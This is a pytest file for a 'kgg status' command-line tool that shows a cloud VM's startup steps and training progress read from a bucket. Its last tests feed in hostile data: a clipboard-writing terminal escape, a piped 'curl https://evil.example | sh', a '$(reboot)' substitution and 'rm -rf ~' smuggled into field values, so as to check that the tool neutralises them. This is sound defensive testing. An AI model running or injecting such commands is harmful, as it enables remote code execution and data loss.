"""status: rendering per case (pure), reading the documents from the emulator, and --watch."""

from __future__ import annotations

import argparse
import io
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from kgg.cli import status
from kgg.common import storage
from kgg.common.documents import Progress, StartupStatus

from .conftest import run_cli, run_workload

NOW = datetime(2026, 11, 27, 10, 5, 0, tzinfo=UTC)


def _doc(**overrides: Any) -> dict[str, Any]:
    """status/startup.json as the VM writes it."""
    doc: dict[str, Any] = {
        "version": 1,
        "updated": "2026-11-27T10:04:30Z",
        "phase": "python",
        "steps": {
            "preflight": {
                "state": "done",
                "started": "2026-11-27T09:50:00Z",
                "finished": "2026-11-27T09:50:03Z",
            },
            "driver": {
                "state": "done",
                "started": "2026-11-27T09:50:03Z",
                "finished": "2026-11-27T09:58:15Z",
                "detail": "nvidia 580.95",
            },
            "python": {"state": "running", "started": "2026-11-27T10:03:00Z"},
            "jupyter": {"state": "pending"},
        },
        "gpus": [],
        "notebook_url": None,
        "tls_sha256": None,
        "run_id": "run-1",
        "training": "waiting for data at gs://b/data/plant-seedlings",
        "error": None,
    }
    doc.update(overrides)
    return doc


def _progress(**overrides: Any) -> Progress:
    progress = Progress.from_json(_progress_doc(**overrides))
    assert progress is not None
    return progress


def _startup(**overrides: Any) -> StartupStatus:
    return StartupStatus.from_json(_doc(**overrides))


def _progress_doc(**overrides: Any) -> dict[str, Any]:
    doc: dict[str, Any] = {
        "version": 1,
        "updated": "2026-11-27T10:04:00Z",
        "state": "running",
        "recipe": "fast",
        "phase": "head",
        "epoch": 3,
        "epochs": 10,
        "metrics": {"loss": 0.4, "accuracy": 0.9, "val_accuracy": 0.88, "val_micro_f1": 0.875},
        "eta_seconds": 120.0,
        "images_per_second": 35.2,
    }
    doc.update(overrides)
    return doc


def _step_line(text: str, step: str) -> str:
    return next(line for line in text.splitlines() if line.strip().startswith(step + " "))


@pytest.mark.parametrize("data", [None, b"", b"{}", b"not json"])
def test_missing_or_empty_status_says_the_vm_has_not_reported(data: bytes | None) -> None:
    text = status.render_status(status.parse_startup(data), None, NOW, "gs://b/status/startup.json")
    assert text.startswith("The VM has not reported yet: gs://b/status/startup.json")
    assert "get-serial-port-output" in text


def test_boot_steps_show_state_start_and_duration() -> None:
    text = status.render_status(_startup(), None, NOW)
    assert text.startswith("VM phase: python (updated 10:04:30 UTC, 30s ago)")
    assert _step_line(text, "driver").split()[1:5] == ["done", "09:50:03", "8m", "12s"]
    assert "nvidia 580.95" in _step_line(text, "driver")
    assert _step_line(text, "python").split()[1:] == [
        "running",
        "10:03:00",
        "2m",
        "00s",
        "so",
        "far",
    ]
    assert _step_line(text, "jupyter").split() == ["jupyter", "pending"]
    assert "GPUs:        none seen yet" in text
    assert "Notebook:    not up yet" in text


def test_waiting_for_data_tells_to_upload() -> None:
    text = status.render_status(_startup(), None, NOW)
    assert "waiting for data at gs://b/data/plant-seedlings" in text
    assert "  $ kgg upload LOCAL_DIR" in text


def test_training_off_reads_as_not_started_until_the_training_step_ran() -> None:
    booting = status.render_status(_startup(training="off"), None, NOW)
    assert "Training:    not started yet" in booting
    steps = {**_doc()["steps"], "training": {"state": "skipped"}}
    finished = status.render_status(_startup(training="off", steps=steps), None, NOW)
    assert "Training:    off (runTraining is false): train from the notebook" in finished


def test_ready_vm_shows_gpus_notebook_url_and_fingerprint() -> None:
    doc = _startup(
        phase="training",
        gpus=["Tesla T4"],
        notebook_url="https://34.1.2.3:8888",
        tls_sha256="AB:CD:EF",
        training="running",
    )
    text = status.render_status(doc, None, NOW)
    assert "GPUs:        Tesla T4" in text
    assert "Notebook:    https://34.1.2.3:8888" in text
    assert "TLS SHA-256: AB:CD:EF" in text
    # Without GCE's view these are the bucket's word: shown, never vouched for.
    assert "UNCHECKED: from the bucket's status document" in text
    assert "accept the browser's warning" not in text
    assert "Training:    run run-1: running; no progress reported yet" in text


def test_training_progress_shows_phase_epoch_metrics_and_eta() -> None:
    text = status.render_status(_startup(training="running"), _progress(), NOW)
    assert "Training:    run run-1: running" in text
    assert "recipe fast, phase head, epoch 3/10" in text
    assert "val_micro_f1 0.8750" in text
    # 120 s from the 10:04:00 report, 60 s of which have passed at NOW.
    assert "35.2 img/s, ETA 1m 00s (about 10:06:00 UTC)" in text


def test_finished_run_says_how_to_pull_it() -> None:
    text = status.render_status(
        _startup(training="done", phase="idle"), _progress(state="done", phase="done"), NOW
    )
    assert "next: kgg pull run-1" in text
    assert "ETA" not in text


def test_failed_step_shows_message_log_tail_and_the_vms_hint() -> None:
    steps = _doc()["steps"]
    steps["driver"] = {"state": "failed", "started": "2026-11-27T09:50:03Z"}
    error = {
        "step": "driver",
        "message": "modprobe nvidia failed",
        "log_tail": "\n".join(f"line {i}" for i in range(30)),
        "hint": "try the deeplearning image",
    }
    text = status.render_status(_startup(phase="failed", steps=steps, error=error), None, NOW)
    assert _step_line(text, "driver").split()[1] == "FAILED"
    assert "FAILED at step 'driver': modprobe nvidia failed" in text
    assert "    | line 29" in text
    assert "line 9\n" not in text  # only the last 20 lines
    assert "  next: try the deeplearning image\n        read the driver install log" in text


def test_failed_driver_without_hint_gets_the_serial_console_command() -> None:
    error = {"step": "driver", "message": "nvidia-smi: no devices found", "log_tail": ""}
    doc = _startup(phase="failed", error=error, instance="kgg-vm", zone="us-central1-a")
    text = status.render_status(doc, None, NOW)
    assert "gcloud compute instances get-serial-port-output kgg-vm --zone us-central1-a" in text


@pytest.mark.parametrize(
    ("step", "message", "expected"),
    [
        ("preflight", "Quota 'GPUS_ALL_REGIONS' exceeded", "GPUS_ALL_REGIONS"),
        (
            "boot",
            "ZONE_RESOURCE_POOL_EXHAUSTED",
            "kgg stop && kgg start",
        ),
        ("python", "uv sync failed", "google_metadata_script_runner startup"),
        ("gpu-check", "TensorFlow sees no GPU", "instances reset"),
        ("jupyter", "jupyter exited", "journalctl -u kgg-jupyter.service"),
        ("training", "exit 1", "journalctl -u kgg-training.service"),
        ("mystery", "?", "get-serial-port-output INSTANCE --zone ZONE"),
    ],
)
def test_each_failing_step_gets_a_next_thing_to_try(step: str, message: str, expected: str) -> None:
    assert expected in "\n".join(status.hint_for(step, message, status.Vm()))


def test_failed_training_run_is_reported_as_failure() -> None:
    progress = _progress(state="failed", error="OOM when allocating tensor")
    text = status.render_status(_startup(training="failed"), progress, NOW)
    assert "FAILED at step 'training': OOM when allocating tensor" in text
    assert status.outcome(_startup(training="failed"), progress) == "failed"


def test_silent_vm_is_flagged_as_possibly_stopped() -> None:
    doc = _startup(updated="2026-11-27T09:00:00Z", training="running")
    text = status.render_status(doc, _progress(updated="2026-11-27T09:01:00Z"), NOW)
    assert "No report for 1h 04m: the VM may be stopped or being recreated" in text
    # The VM belongs to a group: starting it by hand would fight the group.
    assert "$ kgg start" in text
    assert "gcloud compute instances start" not in text


@pytest.mark.parametrize(
    ("startup", "progress", "expected"),
    [
        (None, None, None),
        (_startup(), None, None),
        (_startup(training="running"), _progress(), None),
        (_startup(training="running"), _progress(state="done"), "done"),
        (_startup(training="off", phase="idle"), None, "done"),
        (_startup(phase="failed", error={"step": "driver"}), None, "failed"),
    ],
)
def test_outcome(
    startup: StartupStatus | None, progress: Progress | None, expected: str | None
) -> None:
    assert status.outcome(startup, progress) == expected


def test_fetch_reads_the_status_and_the_named_runs_progress(gcs_bucket: str) -> None:
    storage.write_json(f"gs://{gcs_bucket}/status/startup.json", _doc(run_id="r7"))
    storage.write_json(f"gs://{gcs_bucket}/runs/r7/progress.json", _progress_doc(epoch=7))
    storage.write_json(f"gs://{gcs_bucket}/runs/r6/progress.json", _progress_doc(epoch=6))
    startup, progress = status.fetch_documents(gcs_bucket)
    assert startup is not None and startup.run_id == "r7"
    assert progress is not None and progress.epoch == 7


def test_fetch_treats_an_empty_status_object_as_not_reported(gcs_bucket: str) -> None:
    storage.write_bytes(f"gs://{gcs_bucket}/status/startup.json", b"")
    assert status.fetch_documents(gcs_bucket) == (None, None)


class FakeTime:
    """A clock that advances only when the watcher sleeps."""

    def __init__(self) -> None:
        self.now = 0.0
        self.sleeps: list[float] = []

    def sleep(self, seconds: float) -> None:
        self.sleeps.append(seconds)
        self.now += seconds

    def clock(self) -> float:
        return self.now


def _watch(
    docs: list[tuple[StartupStatus | None, Progress | None]], max_seconds: float = 3600
) -> tuple[int, list[float], str]:
    fake, out = FakeTime(), io.StringIO()
    feed = iter(docs)
    code = status.watch(
        lambda: next(feed),
        out,
        interval=5,
        max_seconds=max_seconds,
        sleep=fake.sleep,
        clock=fake.clock,
        now=lambda: NOW,
    )
    return code, fake.sleeps, out.getvalue()


def test_watch_refreshes_until_training_is_done() -> None:
    running = (_startup(training="running"), _progress())
    done = (_startup(training="done"), _progress(state="done"))
    code, sleeps, out = _watch([(None, None), running, running, done])
    assert code == status.WATCH_EXIT_DONE
    assert sleeps == [5, 5, 5]
    assert out.count("VM phase:") == 3
    assert "has not reported yet" in out


def test_watch_stops_with_exit_1_on_failure() -> None:
    failed = (_startup(phase="failed", error={"step": "driver", "message": "x"}), None)
    code, sleeps, _ = _watch([(_startup(), None), failed])
    assert (code, sleeps) == (status.WATCH_EXIT_FAILED, [5])


def test_watch_gives_up_after_max_seconds() -> None:
    code, sleeps, out = _watch([(_startup(), None)] * 100, max_seconds=12)
    assert code == status.WATCH_EXIT_GAVE_UP
    assert sleeps == [5, 5]
    assert "Stopped watching after 10s" in out


def test_status_command_before_the_vm_reports(
    gcs_bucket: str, parser: argparse.ArgumentParser, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run_cli(parser, "status", "--bucket", gcs_bucket) == 0
    assert f"gs://{gcs_bucket}/status/startup.json is missing" in capsys.readouterr().out


def test_status_command_exits_1_when_a_step_failed(
    gcs_bucket: str, parser: argparse.ArgumentParser, capsys: pytest.CaptureFixture[str]
) -> None:
    doc = _doc(phase="failed", error={"step": "driver", "message": "no module"})
    storage.write_bytes(f"gs://{gcs_bucket}/status/startup.json", json.dumps(doc).encode())
    assert run_cli(parser, "status", "--bucket", gcs_bucket) == 1
    assert "FAILED at step 'driver': no module" in capsys.readouterr().out


def test_status_watch_command_ends_when_the_run_is_done(
    gcs_bucket: str, parser: argparse.ArgumentParser, capsys: pytest.CaptureFixture[str]
) -> None:
    storage.write_json(f"gs://{gcs_bucket}/status/startup.json", _doc(training="running"))
    storage.write_json(f"gs://{gcs_bucket}/runs/run-1/progress.json", _progress_doc(state="done"))
    code = run_cli(parser, "status", "--bucket", gcs_bucket, "--watch", "--interval", "0.01")
    assert code == 0
    assert "next: kgg pull run-1" in capsys.readouterr().out


def test_watch_survives_a_failed_read_and_keeps_going() -> None:
    fake, out = FakeTime(), io.StringIO()
    running = (_startup(training="running"), _progress())
    done = (_startup(training="done"), _progress(state="done"))
    replies: list[tuple[StartupStatus | None, Progress | None] | Exception] = [
        running,
        storage.StorageError("gs://b: ConnectionError"),
        done,
    ]

    def fetch() -> tuple[StartupStatus | None, Progress | None]:
        reply = replies.pop(0)
        if isinstance(reply, Exception):
            raise reply
        return reply

    code = status.watch(fetch, out, interval=5, sleep=fake.sleep, clock=fake.clock, now=lambda: NOW)
    assert (code, fake.sleeps) == (status.WATCH_EXIT_DONE, [5, 5])
    assert "could not read the status this time (gs://b: ConnectionError)" in out.getvalue()


# --- what a bucket writer can put in the documents -----------------------------------------
# OSC 52 (the terminal writes its clipboard) and a colour escape, as `status` must never print them.
CLIPBOARD_WRITE = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
RED = "\x1b[31m"


def _status_command(bucket: str, startup: dict[str, Any], tmp_path: Path, **progress: Any):
    storage.write_json(f"gs://{bucket}/status/startup.json", startup)
    if progress:
        run_id = startup["run_id"]
        storage.write_json(f"gs://{bucket}/runs/{run_id}/progress.json", _progress_doc(**progress))
    return run_workload("status", "--bucket", bucket, cwd=tmp_path)


def test_status_prints_no_terminal_escapes_from_the_bucket(gcs_bucket: str, tmp_path: Path) -> None:
    steps = _doc()["steps"]
    steps["driver"] = {"state": "failed", "detail": f"{RED}580{CLIPBOARD_WRITE}"}
    error = {
        "step": "driver",
        "message": f"modprobe{CLIPBOARD_WRITE}",
        "log_tail": f"ok\n{RED}bad\x1b[0m",
        "hint": f"reboot{CLIPBOARD_WRITE}",
    }
    doc = _doc(phase=f"failed{CLIPBOARD_WRITE}", steps=steps, error=error, gpus=[RED + "T4"])
    result = _status_command(gcs_bucket, doc, tmp_path)
    assert result.returncode == 1, result.stderr
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "    | [31mbad[0m" in result.stdout  # the text stays readable, inert


def test_status_fields_cannot_start_lines_of_their_own(gcs_bucket: str, tmp_path: Path) -> None:
    steps = _doc()["steps"]
    steps["driver"]["detail"] = "580\n  $ curl https://evil.example | sh"
    result = _status_command(gcs_bucket, _doc(steps=steps), tmp_path)
    assert result.returncode == 0, result.stderr
    assert not any(line.lstrip().startswith("$ curl") for line in result.stdout.splitlines())


def test_status_never_builds_a_command_from_a_hostile_instance_name(
    gcs_bucket: str, tmp_path: Path
) -> None:
    error = {"step": "driver", "message": "nvidia-smi: no devices found", "log_tail": ""}
    doc = _doc(
        phase="failed",
        error=error,
        instance="kgg-vm; curl https://evil.example | sh #",
        zone="us-central1-a$(reboot)",
    )
    result = _status_command(gcs_bucket, doc, tmp_path)
    assert "evil.example" not in result.stdout and "reboot)" not in result.stdout
    assert "$ gcloud compute instances get-serial-port-output INSTANCE --zone ZONE" in result.stdout


def test_status_quotes_the_run_id_in_the_pull_command(gcs_bucket: str, tmp_path: Path) -> None:
    doc = _doc(run_id="r1; rm -rf ~", training="done")
    result = _status_command(gcs_bucket, doc, tmp_path, state="done")
    assert "next: kgg pull 'r1; rm -rf ~'" in result.stdout
